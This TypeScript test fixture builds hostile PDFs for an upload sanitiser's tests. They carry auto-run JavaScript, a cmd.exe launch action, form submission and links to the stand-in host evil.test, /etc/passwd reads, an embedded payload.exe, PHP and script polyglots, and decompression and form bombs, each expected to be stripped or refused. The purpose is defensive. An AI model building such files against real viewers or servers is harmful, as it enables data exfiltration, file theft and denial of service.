import { deflateSync } from 'node:zlib'
import { buildPdf, formBombPdf, lockedPdf, pdf, streamOf, written } from '../fixtures/pdf.ts'
import { bytesOf, type Hostile, one, php, script, sentences } from './hostile.ts'

const { locked, unreadable, tooHeavy, pages } = sentences

const letter = [written('Augmentin 625 mg')]
const withCatalog = (catalog: string, ...objects: (string | Uint8Array)[]) =>
  buildPdf({ pages: letter, catalog, objects })

const zip = bytesOf('PK\x03\x04\x14\x00', '\x00'.repeat(24), 'payload.exe')
const zipEnd = bytesOf('PK\x01\x02', '\x00'.repeat(42), 'PK\x05\x06', '\x00'.repeat(18))
/** 100 MB of drawing operators in 100 kB. */
const packedDrawing = () =>
  streamOf('/Filter /FlateDecode', deflateSync(Buffer.alloc(100 * 1024 * 1024, '0 0 9 9 re f\n')))

/** Each PDF is rendered; its page shows the letter, and nothing else of it is kept. */
const harmless: Record<string, () => Uint8Array> = {
  'a script to run when it opens': () => withCatalog('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
  'a script that never ends': () => withCatalog('/OpenAction << /S /JavaScript /JS (while (true) {}) >>'),
  'a script among the names': () =>
    withCatalog(
      '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>',
      '<< /S /JavaScript /JS (app.alert(1)) >>',
    ),
  'a program to start when it opens': () =>
    withCatalog('/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>'),
  'a web page to open when it opens': () => withCatalog('/OpenAction << /S /URI /URI (https://evil.test) >>'),
  'something to do when a page opens': () =>
    buildPdf({ pages: letter, page: '/AA << /O << /S /URI /URI (https://evil.test) >> >>' }),
  'another PDF to go to': () => withCatalog('/OpenAction << /S /GoToR /F (\\\\\\\\evil.test\\\\x.pdf) >>'),
  'an image that lies in a file of the server': () =>
    buildPdf({
      pages: [`${letter[0]} /X Do`],
      objects: [
        streamOf(
          '/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /F (/etc/passwd)',
          '',
        ),
      ],
    }),
  'a file inside': () =>
    withCatalog(
      '/Names << /EmbeddedFiles << /Names [(payload.exe) 4 0 R] >> >>',
      '<< /Type /Filespec /F (payload.exe) /EF << /F 5 0 R >> >>',
      streamOf('/Type /EmbeddedFile', 'MZ'),
    ),
  'a position in its XMP': () =>
    withCatalog(
      '/Metadata 4 0 R',
      streamOf('/Type /Metadata /Subtype /XML', '<exif:GPSLatitude>24,51.5N</exif:GPSLatitude>'),
    ),
  'a form that sends itself': () =>
    withCatalog('/OpenAction << /S /SubmitForm /F (https://evil.test) >> /AcroForm << /Fields [] >>'),
  'a form that reads a file': () => withCatalog('/OpenAction << /S /ImportData /F (/etc/passwd) >>'),
  'a form of XML': () => withCatalog('/AcroForm << /XFA 4 0 R >>', streamOf('', '<xdp>evil</xdp>')),
  'a film that runs': () =>
    buildPdf({
      pages: letter,
      page: '/Annots [4 0 R]',
      objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>'],
    }),
  'PHP in a comment': () => bytesOf(pdf(...letter), `% ${php}\n`),
  'a web page behind it': () => bytesOf(pdf(...letter), script),
  'a zip behind it': () => bytesOf(pdf(...letter), zip, zipEnd),
  'a page as wide as a town': () => buildPdf({ pages: letter, size: [5_000_000, 5_000_000] }),
  'a page as thin as a thread': () => buildPdf({ pages: letter, size: [0.001, 5_000_000] }),
  'two thousand million pages, by its own account': () =>
    buildPdf({ pages: letter, tree: '/Kids [4 0 R] /Count 2000000000' }),
}

/** Each PDF is refused, with this sentence. */
const files: Record<string, [bytes: () => Uint8Array, rejected: readonly [number, string]]> = {
  'a password': [() => lockedPdf(), locked],
  'a lock of another kind': [
    () => buildPdf({ pages: letter, trailer: '/Encrypt << /Filter /Acme /V 9 >>' }),
    locked,
  ],
  'no page in it': [() => pdf(), unreadable],
  'no catalogue': [() => bytesOf('%PDF-1.7\n3 0 obj << /Type /Page >> endobj\n%%EOF\n'), unreadable],
  'nothing but its first line': [() => bytesOf('%PDF-1.7\n'), unreadable],
  'a page tree that is its own child': [
    () => buildPdf({ pages: letter, tree: '/Kids [2 0 R] /Count 1' }),
    unreadable,
  ],
  'more pages than it has': [() => buildPdf({ pages: letter, tree: '/Kids [4 0 R] /Count 9' }), unreadable],
  '21 pages': [() => pdf(...Array<string>(21).fill('')), pages],
  '5,000 pages': [() => pdf(...Array<string>(5000).fill('')), pages],
  '100 MB of drawing in its page': [
    () => buildPdf({ pages: letter, page: '/Contents 4 0 R', objects: [packedDrawing()] }),
    tooHeavy,
  ],
  'forms that draw each other 10^9 times': [() => formBombPdf(), tooHeavy],
}

export const pdfs: Hostile[] = [
  ...Object.entries(harmless).map(([name, bytes]) => ({
    name: `a PDF with ${name}`,
    parts: () => one(bytes(), 'page.pdf', 'application/pdf'),
    without: ['%PDF', 'evil', 'JavaScript', 'passwd', 'payload', '<?php', '<script', 'cmd.exe'],
  })),
  ...Object.entries(files).map(([name, [bytes, rejected]]) => ({
    name: `a PDF with ${name}`,
    parts: () => one(bytes(), 'page.pdf', 'application/pdf'),
    rejected,
  })),
]
